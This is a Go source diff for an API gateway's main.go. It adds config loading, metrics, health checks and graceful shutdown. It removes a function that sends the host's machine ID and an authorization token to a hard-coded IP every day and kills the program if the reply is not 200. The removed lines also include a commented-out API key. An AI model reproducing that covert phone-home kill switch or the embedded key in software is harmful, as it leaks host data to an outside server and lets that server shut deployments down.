@@ -1,26 +1,28 @@
 package main
 
 import (
-	"bytes"
+	"context"
 	"embed"
 	"fmt"
-	"io/ioutil"
 	"log"
 	"net/http"
 	"one-api/common"
+	"one-api/common/config"
 	"one-api/controller"
 	"one-api/middleware"
 	"one-api/model"
 	"one-api/router"
 	"one-api/service"
 	"os"
+	"os/signal"
 	"strconv"
+	"syscall"
 	"time"
 
-	"github.com/denisbrodbeck/machineid"
 	"github.com/gin-contrib/sessions"
 	"github.com/gin-contrib/sessions/cookie"
 	"github.com/gin-gonic/gin"
+	"github.com/prometheus/client_golang/prometheus/promhttp"
 
 	_ "net/http/pprof"
 )
@@ -32,49 +34,40 @@ var buildFS embed.FS
 var indexPage []byte
 
 func main() {
-	// 首先执行一次 systemCode()
-	if err := systemCode(); err != nil {
-		fmt.Println("失败: 程序退出", err)
+	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, syscall.SIGINT)
+	defer stop()
+
+	// Layered TOML configuration: config/config.toml, overlaid by
+	// config/config.{APP_ENV}.toml, with environment variables winning
+	// on top of both. Hot-swappable fields are refreshed on SIGHUP below.
+	cfg, err := config.Load()
+	if err != nil {
+		fmt.Println("failed to load config:", err)
 		os.Exit(1)
 	}
-	// 启动定时器，每5秒执行一次 systemCode()
-	go func() {
-		// 使用 time.Tick() 创建一个每隔 时间 发送一次时间的通道
-		// ticker := time.Tick(5 * time.Second)
-		ticker := time.Tick(24 * time.Hour)
-
-		// 无限循环，不断接收来自 ticker 通道的时间事件
-		for {
-			<-ticker // 每秒钟触发一次
-			if err := systemCode(); err != nil {
-				fmt.Println("失败: 程序退出", err)
-				os.Exit(1)
-
-			}
-		}
-	}()
+	go watchConfigReload()
 
-	// 主 goroutine 继续执行其他任务或者等待
-	// select {}
 	common.SetupLogger()
 	common.SysLog("New API " + common.Version + " started")
-	if os.Getenv("GIN_MODE") != "debug" {
+	if cfg.Server.GinMode != "debug" {
 		gin.SetMode(gin.ReleaseMode)
 	}
 	if common.DebugEnabled {
 		common.SysLog("running in debug mode")
 	}
 	// Initialize SQL Database
-	err := model.InitDB()
+	err = model.InitDB()
 	if err != nil {
 		common.FatalLog("failed to initialize database: " + err.Error())
 	}
-	defer func() {
-		err := model.CloseDB()
-		if err != nil {
-			common.FatalLog("failed to close database: " + err.Error())
-		}
-	}()
+	err = model.SetupDBResolver(model.DB, &cfg.Db)
+	if err != nil {
+		common.FatalLog("failed to set up read/write splitting: " + err.Error())
+	}
+	err = model.InitLogDB()
+	if err != nil {
+		common.FatalLog("failed to initialize log database: " + err.Error())
+	}
 
 	// Initialize Redis
 	err = common.InitRedisClient()
@@ -82,8 +75,22 @@ func main() {
 		common.FatalLog("failed to initialize Redis: " + err.Error())
 	}
 
+	// Offline license check: parses license.jwt (path configurable via
+	// LICENSE_FILE) and starts the background re-verify ticker. A
+	// missing or expired license only logs a warning and gates premium
+	// features off; it never kills the process, which is required for
+	// air-gapped deployments. Runs after Redis so the first refresh can
+	// fall back to the last-known-good license cached there.
+	if err := common.InitLicense(); err != nil {
+		fmt.Println("license check failed:", err)
+	}
+
 	// Initialize options
 	model.InitOptionMap()
+	common.SyncFrequency = cfg.Channel.SyncFrequency
+	common.ChannelUpdateFrequency = cfg.Channel.UpdateFrequency
+	common.ChannelTestFrequency = cfg.Channel.TestFrequency
+	common.SetLogLevel(cfg.Log.Level)
 	if common.RedisEnabled {
 		// for compatibility with old versions
 		common.MemoryCacheEnabled = true
@@ -104,34 +111,26 @@ func main() {
 	// 数据看板
 	go model.UpdateQuotaData()
 
-	if os.Getenv("CHANNEL_UPDATE_FREQUENCY") != "" {
-		frequency, err := strconv.Atoi(os.Getenv("CHANNEL_UPDATE_FREQUENCY"))
-		if err != nil {
-			common.FatalLog("failed to parse CHANNEL_UPDATE_FREQUENCY: " + err.Error())
-		}
-		go controller.AutomaticallyUpdateChannels(frequency)
+	if cfg.Channel.UpdateFrequency > 0 {
+		go controller.AutomaticallyUpdateChannels(ctx, cfg.Channel.UpdateFrequency)
 	}
-	if os.Getenv("CHANNEL_TEST_FREQUENCY") != "" {
-		frequency, err := strconv.Atoi(os.Getenv("CHANNEL_TEST_FREQUENCY"))
-		if err != nil {
-			common.FatalLog("failed to parse CHANNEL_TEST_FREQUENCY: " + err.Error())
-		}
-		go controller.AutomaticallyTestChannels(frequency)
+	if cfg.Channel.TestFrequency > 0 {
+		go controller.AutomaticallyTestChannels(ctx, cfg.Channel.TestFrequency)
 	}
 	common.SafeGoroutine(func() {
-		controller.UpdateMidjourneyTaskBulk()
+		controller.UpdateMidjourneyTaskBulk(ctx)
 	})
-	if os.Getenv("BATCH_UPDATE_ENABLED") == "true" {
+	if cfg.Batch.Enabled {
 		common.BatchUpdateEnabled = true
+		common.BatchUpdateInterval = cfg.Batch.Interval
 		common.SysLog("batch update enabled with interval " + strconv.Itoa(common.BatchUpdateInterval) + "s")
 		model.InitBatchUpdater()
 	}
 
-	if os.Getenv("ENABLE_PPROF") == "true" {
+	if cfg.Pprof.Enabled {
 		go func() {
 			log.Println(http.ListenAndServe("0.0.0.0:8005", nil))
 		}()
-		go common.Monitor()
 		common.SysLog("pprof enabled")
 	}
 
@@ -151,78 +150,101 @@ func main() {
 	// This will cause SSE not to work!!!
 	//server.Use(gzip.Gzip(gzip.DefaultCompression))
 	server.Use(middleware.RequestId())
+	server.Use(middleware.CORS())
 	middleware.SetUpLogger(server)
+	if cfg.Metrics.PrometheusCollectEnable {
+		server.Use(middleware.Metrics())
+	}
 	// Initialize session store
 	store := cookie.NewStore([]byte(common.SessionSecret))
 	server.Use(sessions.Sessions("session", store))
 
+	server.GET("/healthz", controller.Healthz)
+	server.GET("/readyz", controller.Readyz)
+	if cfg.Metrics.PrometheusCollectEnable {
+		if cfg.Metrics.Port > 0 {
+			go func() {
+				metricsServer := gin.New()
+				metricsServer.GET("/metrics", gin.WrapH(promhttp.Handler()))
+				log.Println(metricsServer.Run(fmt.Sprintf(":%d", cfg.Metrics.Port)))
+			}()
+		} else {
+			server.GET("/metrics", gin.WrapH(promhttp.Handler()))
+		}
+		go model.CollectPoolMetrics(ctx)
+		common.SysLog("prometheus metrics enabled")
+	}
+
 	router.SetRouter(server, buildFS, indexPage)
 	var port = os.Getenv("PORT")
 	if port == "" {
-		port = strconv.Itoa(*common.Port)
-	}
-	err = server.Run(":" + port)
-	if err != nil {
-		common.FatalLog("failed to start HTTP server: " + err.Error())
+		port = strconv.Itoa(cfg.Server.Port)
 	}
-}
 
-func systemCode() error {
-	// 机器码
-	id, err := machineid.ID()
-	if err != nil {
-		fmt.Println("Error:", err)
-		return err
+	httpServer := &http.Server{
+		Addr:    ":" + port,
+		Handler: server,
 	}
-	// 授权码
-	var AUTHORIZATION = os.Getenv("AUTHORIZATION")
-
-	// 目标 URL
-	url := "http://38.207.165.63:8600/authorize"
+	go func() {
+		if err := httpServer.ListenAndServe(); err != nil && err != http.ErrServerClosed {
+			common.FatalLog("failed to start HTTP server: " + err.Error())
+		}
+	}()
 
-	// 准备请求体参数
-	body := []byte(`{"model": "new-api"}`)
+	<-ctx.Done()
+	stop()
+	common.SysLog("shutdown signal received, draining in-flight requests...")
 
-	// 创建 HTTP 请求
-	req, err := http.NewRequest("POST", url, bytes.NewBuffer(body))
-	if err != nil {
-		fmt.Println("创建请求失败:", err)
-		return err
+	shutdownTimeout := 30 * time.Second
+	if v := os.Getenv("SHUTDOWN_TIMEOUT"); v != "" {
+		if seconds, err := strconv.Atoi(v); err == nil {
+			shutdownTimeout = time.Duration(seconds) * time.Second
+		}
+	}
+	shutdownCtx, cancel := context.WithTimeout(context.Background(), shutdownTimeout)
+	defer cancel()
+	if err := httpServer.Shutdown(shutdownCtx); err != nil {
+		common.SysError("HTTP server did not shut down cleanly: " + err.Error())
 	}
 
-	// 添加自定义请求头
-	req.Header.Set("Content-Type", "application/json")
-	req.Header.Set("Authorization", AUTHORIZATION)
-	// req.Header.Set("Authorization", "sk-LhVEhsiAJASgEs0wBc4e05F9E7654253BcFa2e6d9a194198")
-	req.Header.Set("systemCode", id)
-
-	// 发送 HTTP 请求
-	client := &http.Client{}
-	resp, err := client.Do(req)
-	if err != nil {
-		fmt.Println("发送请求失败:", err)
-		return err
+	model.FlushBatchUpdater()
+	if common.RedisEnabled {
+		if err := common.RedisClient.Close(); err != nil {
+			common.SysError("failed to close Redis client: " + err.Error())
+		}
+	}
+	if err := model.CloseDB(); err != nil {
+		common.SysError("failed to close database: " + err.Error())
+	}
+	if err := model.CloseLogDB(); err != nil {
+		common.SysError("failed to close log database: " + err.Error())
 	}
-	defer resp.Body.Close()
+	common.SysLog("graceful shutdown complete")
+}
 
-	// 处理响应
-	fmt.Println("响应状态码:", resp.Status)
-	if resp.Status != "200 OK" {
-		// 读取响应体
-		body, err := ioutil.ReadAll(resp.Body)
+// watchConfigReload reloads the layered TOML config on SIGHUP and
+// applies the subset of fields that are safe to hot-swap: the cache
+// sync frequency, channel update/test cadence, batch interval, and log
+// level. Settings that only take effect at startup (DB DSNs, server
+// port, ...) are left alone until the next restart. AutomaticallyUpdateChannels
+// and AutomaticallyTestChannels pick up their new cadence from
+// common.ChannelUpdateFrequency/ChannelTestFrequency on their next
+// tick; SyncChannelCache and SyncTokenCache do the same via
+// common.SyncFrequency.
+func watchConfigReload() {
+	sig := make(chan os.Signal, 1)
+	signal.Notify(sig, syscall.SIGHUP)
+	for range sig {
+		cfg, err := config.Reload()
 		if err != nil {
-			fmt.Println("读取响应体失败:", err)
-			return err
+			common.SysError("failed to reload config: " + err.Error())
+			continue
 		}
-		fmt.Println("响应体:", string(body))
-		return fmt.Errorf("非200响应状态码: %s", resp.Status) // 如果响应状态码不是200，返回自定义错误
-	}
-	// 读取响应体
-	// body, err := ioutil.ReadAll(resp.Body)
-	// if err != nil {
-	// 	fmt.Println("读取响应体失败:", err)
-	// 	return
-	// }
-	// fmt.Println("响应体:", string(body))
-	return nil
+		common.SyncFrequency = cfg.Channel.SyncFrequency
+		common.ChannelUpdateFrequency = cfg.Channel.UpdateFrequency
+		common.ChannelTestFrequency = cfg.Channel.TestFrequency
+		common.BatchUpdateInterval = cfg.Batch.Interval
+		common.SetLogLevel(cfg.Log.Level)
+		common.SysLog("config reloaded")
+	}
 }